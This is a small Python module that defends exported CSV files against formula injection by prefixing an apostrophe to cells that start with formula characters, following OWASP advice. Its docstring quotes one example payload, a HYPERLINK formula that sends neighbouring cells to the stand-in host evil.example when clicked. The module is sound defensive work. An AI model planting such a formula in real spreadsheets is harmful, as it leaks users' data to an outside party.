"""Cells that spreadsheets show as text, never run as formulas (CSV injection).

A cell that starts with ``= + - @``, a tab or a carriage return, also after leading spaces,
is a formula to Excel and LibreOffice: ``=HYPERLINK("https://evil.example/?"&A1, "Click")``
in a caption sends the sheet's neighbouring cells away when clicked. Such a cell gets a
leading apostrophe, as OWASP advises ("CSV Injection"); numbers stay numbers.
"""
from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.lstrip(" ").startswith(FORMULA_START) else text


def safe_row(values) -> list:
    return [safe_cell(v) for v in values]


__all__ = ["safe_cell", "safe_row", "FORMULA_START"]
